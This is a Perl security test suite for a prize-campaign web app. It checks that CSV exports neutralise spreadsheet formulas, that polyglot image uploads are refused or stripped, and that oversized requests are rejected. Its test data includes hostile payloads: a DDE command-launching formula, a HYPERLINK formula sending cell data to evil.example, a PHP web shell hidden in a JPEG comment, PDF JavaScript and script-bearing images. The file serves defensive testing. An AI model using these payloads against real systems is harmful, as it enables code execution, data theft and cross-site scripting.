#!/usr/bin/perl
# Files: what comes out must run in no spreadsheet, what comes in must be an
# image and nothing else besides.
#
# SPDX-License-Identifier: Apache-2.0
use strict;
use warnings;
use utf8;
use Compress::Zlib qw(compress crc32);
use Encode qw(decode);
use Test::More;
use Kuji::Admin;
use Kuji::Test;
use Kuji::Winner;

my $me  = Kuji::Admin->new;
my $dir = "$ENV{KUJI_SRC}/t/unit/images";

# ---- formulas: in every field of every export ----

my @evil = ('=1+1', '+1', '-1', '@SUM(A1)', '＝1', '＋1', '－1', '＠A', ' =1', '　＝1', q(=cmd|' /C calc'!A0),
    '=HYPERLINK("https://evil.example/?"&A1)');
# A tab or a line's end in front, where a field takes them.
my @blank = ("\t=1", "\r=1", "\n=1", "\r\n=1");
my $slug = campaign({ title => '=1+1', gates => ['code'], odds_total => 1, claim_fields => [qw(name kana postal address phone mail)],
    prizes => [ { code => 'A', name => '=1+1', kind => 'parcel', units => 99, weight => 1 } ] });
my @codes = split /\n/, ctl('codes', 'generate', 'first', $slug, scalar @evil, '--name', '=1+1');
for my $i (0 .. $#evil) {
    my $who = Kuji::Form->new;
    my $r = $who->post($slug, $who->form($slug), code => $codes[$i]);
    ($who->{n}) = $r->{headers}{location} =~ m{/draws/(\d+)$} or die "$r->{status} $r->{content}";
    my %given = map { $_ => $evil[$i] } qw(name kana postal prefecture city street building phone mail);
    my $claimed = claim($slug, $who, %given);
    $claimed = claim($slug, $who, %given, kana => 'ヤマダ', postal => '060-0001', prefecture => '北海道', phone => '090-0000-0000', mail => 'a@example.jp')
        if $claimed->{status} != 303;
    is $claimed->{status}, 303, "claimed as formula $i";
    is $me->send("/admin/campaigns/$slug/draws/$who->{n}/step", to => 'shipped', tracking => '=1+1')->{status} =~ /^(?:303|422)$/,
        1, 'shipped, with a number that is none' if $i == 0;
    like $me->send("/admin/campaigns/$slug/codes/import", take_name => $_, take_uses => 1, codes => unique('AB'))->{status},
        qr/^(?:200|303|422)$/, 'a batch of that name' for $evil[$i], "$blank[$i % 4]";
    $me->send("/admin/campaigns/$slug/stock", prize => 'A', units => 1, note => $evil[$i]);
}
$me->send("/admin/campaigns/$slug/draws/1/void", reason => 'error', note => '=1+1', confirm => 1);
my $login = '=1+1' . unique('x');
$me->send('/admin/accounts', login => $login, role => 'editor');

# Records of a strict reader.
sub records {
    my ($text) = @_;
    my (@records, @cells);
    while ($text =~ /\G(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gc) {
        my ($quoted, $plain, $end) = ($1, $2, $3);
        push @cells, defined $quoted ? $quoted =~ s/""/"/gr : $plain;
        if ($end ne ',') {
            push @records, [@cells];
            @cells = ();
        }
    }
    return (pos($text) // 0) == length $text ? @records : ();
}
for my $path ((map { "/admin/campaigns/$slug/exports/$_.csv" } qw(draws winners claims codes)), '/admin/audit.csv') {
    for my $encoding (qw(utf-8 utf-8-bom cp932)) {
        my $r = $me->get("$path?encoding=$encoding");
        is $r->{status}, 200, "$path, $encoding";
        my $text = decode($encoding eq 'cp932' ? 'cp932' : 'UTF-8', $r->{content} =~ s/^\xef\xbb\xbf//r);
        my @records = records($text);
        cmp_ok scalar @records, '>', @evil, 'is CSV to its end';
        my @run = grep { /^[\s　]*[=+\-\@＝＋－＠]/ || /^[\t\r\n]/ } map { @$_ } @records;
        is_deeply \@run, [], 'in which no cell is a formula';
        is scalar(grep { @$_ != @{ $records[0] } } @records), 0, 'nor makes a cell of its own';
        like $text, qr/'[=＝]1/, 'but as text they are there' if $path !~ /draws|audit/;
        is $r->{headers}{'x-content-type-options'}, 'nosniff', 'and no browser guesses';
        like $r->{headers}{'content-disposition'}, qr/^attachment; filename="[a-z0-9.-]+"$/, 'it is to be kept';
    }
}

# ---- images that are something else as well ----

my $script = '<script>alert(1)</script>';
my $rgb    = slurp_file("$dir/rgb.png");
my $jpeg   = slurp_file("$dir/turned.jpg");
my $gif    = slurp_file("$dir/still.gif");
my $webp   = slurp_file("$dir/frames.webp");

sub chunk { return pack('N', length $_[1]) . "$_[0]$_[1]" . pack 'N', crc32("$_[0]$_[1]") }
sub png_with { return substr($rgb, 0, 33) . join('', @_) . substr $rgb, 33 }
sub jpeg_with { return substr($jpeg, 0, 2) . $_[0] . substr $jpeg, 2 }
sub segment { return "\xff$_[0]" . pack('n', 2 + length $_[1]) . $_[1] }
sub riff { my $body = substr($webp, 8) . $_[0]; return 'RIFF' . pack('V', length $body) . $body }

my %poly = (
    'PNG with text'         => png_with(chunk('tEXt', "Comment\0$script")),
    'PNG with packed text'  => png_with(chunk('zTXt', "Comment\0\0" . compress($script))),
    'PNG with UTF-8 text'   => png_with(chunk('iTXt', "XML:com.adobe.xmp\0\0\0\0\0$script")),
    'PNG with Exif'         => png_with(chunk('eXIf', "MM\0*$script")),
    'PNG with a chunk of its own' => png_with(chunk('scRp', $script)),
    'PNG with a profile'    => png_with(chunk('iCCP', "x\0\0" . compress($script))),
    'PNG and HTML'          => "$rgb<!DOCTYPE html>$script",
    'PNG and ZIP'           => "${rgb}PK\x03\x04$script",
    'HTML and PNG'          => "<!DOCTYPE html>$script$rgb",
    'PNG with a bad sum'    => png_with(pack('N', 9) . 'tEXt' . "a\0$script" . 'none'),
    'JPEG with a comment'   => jpeg_with(segment("\xfe", $script)),
    'JPEG with Exif'        => jpeg_with(segment("\xe1", "Exif\0\0MM\0*\0\0\0\x08\0\0$script")),
    'JPEG with XMP'         => jpeg_with(segment("\xe1", "http://ns.adobe.com/xap/1.0/\0$script")),
    'JPEG that is a PDF'    => jpeg_with(segment("\xfe", "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")),
    'JPEG that is PHP'      => jpeg_with(segment("\xfe", '<?php system($_GET[0]); __HALT_COMPILER();')),
    'PDF and JPEG'          => "%PDF-1.4\n$jpeg",
    'JPEG and HTML'         => "$jpeg$script",
    'GIF with a comment'    => substr($gif, 0, -1) . "!\xfe" . chr(length $script) . "$script\0;",
    'GIF with an application' => substr($gif, 0, -1) . "!\xff\x0bXMP DataXMP" . chr(length $script) . "$script\0;",
    'GIF and script'        => "$gif*/=1;alert(1)//",
    'GIF that is script'    => "GIF89a/*" . substr($gif, 8) . '*/=1;alert(1)//',
    'WebP with XMP'         => riff('XMP ' . pack('V', length $script) . $script . ("\0" x (length($script) % 2))),
    'WebP with Exif'        => riff('EXIF' . pack('V', length $script) . $script . ("\0" x (length($script) % 2))),
    'WebP and HTML'         => "$webp$script",
    'SVG'                   => "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>$script</svg>",
    'SVG with a declaration' => "\xef\xbb\xbf<?xml version='1.0'?><!DOCTYPE svg><svg xmlns='http://www.w3.org/2000/svg'/>",
    'packed SVG'            => compress("<svg>$script</svg>"),
    'HTML'                  => "<html>$script",
    'PDF'                   => "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    'AVIF'                  => "\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf",
    'BMP'                   => "BM" . "\0" x 60,
    'ICO'                   => "\0\0\1\0\1\0" . "\0" x 60,
    'a shell'               => "#!/bin/sh\nid\n",
);
my $payload = qr/script|alert|%PDF|<\?php|JavaScript|PK\x03\x04|HALT_COMPILER|<html|<svg/i;
my %kept;
for my $what (sort keys %poly) {
    my $before = sql('SELECT count(*) FROM kuji.image');
    my $r = $me->ask('POST', '/admin/images', body => $poly{$what}, headers => { Accept => 'application/json',
        'Sec-Fetch-Site' => 'same-origin', 'Content-Type' => 'text/html' });
    if ($r->{status} == 201) {
        my $image = request('GET', $r->{json}{href}, headers => { Accept => 'text/html' });
        is $image->{status}, 200, "$what: kept";
        unlike $image->{content}, $payload, 'without what it was for';
        like $image->{headers}{'content-type'}, qr{^image/(?:png|jpeg|gif|webp)$}, 'as an image';
        $kept{$what} = $r->{json}{href};
    }
    else {
        is $r->{status}, 415, "$what: refused";
        is sql('SELECT count(*) FROM kuji.image'), $before, 'and not kept';
    }
}
ok !$kept{$_}, "$_ is no image" for grep { /^(?:SVG|HTML|PDF|packed|AVIF|BMP|ICO|a shell)/ } keys %poly;
note join ', ', sort keys %kept;

# However it is asked for, it is that image, inert.
my ($href) = sort values %kept;
for my $suffix ('.html', '/x.html', ';x.html', '%00.html', '%2ehtml', '/', '.', '%20') {
    is request('GET', "$href$suffix")->{status}, 404, "$suffix is another name";
}
for my $way ([ '?x.html' ], [ '?content-type=text/html' ], [ '', Range => 'bytes=10-40' ], [ '', Accept => 'text/html' ]) {
    my ($query, %headers) = @$way;
    my $image = request('GET', "$href$query", headers => \%headers);
    like $image->{status}, qr/^20[06]$/, "however it is asked for: @$way";
    like $image->{headers}{'content-type'}, qr{^image/}, 'an image';
    is $image->{headers}{'x-content-type-options'}, 'nosniff', 'whatever it looks like';
    is $image->{headers}{'content-security-policy'}, "sandbox; default-src 'none'; frame-ancestors 'none'", 'with no rights';
}

# ---- far too much, wherever bytes are taken ----

for my $case ([ '/admin/images', 5 * 1024 * 1024 + 1, 'application/octet-stream' ],
    [ "/admin/campaigns/$slug/claims/shipped", 8 * 1024 * 1024 + 1, 'text/csv' ],
    [ "/admin/campaigns/$slug/texts", 2 * 1024 * 1024 + 1, 'application/x-www-form-urlencoded' ])
{
    my ($path, $size, $type) = @$case;
    my $before = sql('SELECT count(*) FROM kuji.audit');
    my @parts  = map { 'x' x ($_ < int($size / 65536) ? 65536 : $size % 65536) } 0 .. int($size / 65536);
    for my $body ('x' x $size, sub { return shift @parts }) {
        is $me->ask('POST', $path, body => $body, headers => { 'Content-Type' => $type, 'Sec-Fetch-Site' => 'same-origin' })
            ->{status}, 413, "$path: $size bytes" . (ref $body ? ', unannounced' : '');
    }
    is sql('SELECT count(*) FROM kuji.audit'), $before, 'and nothing is changed';
}

done_testing;
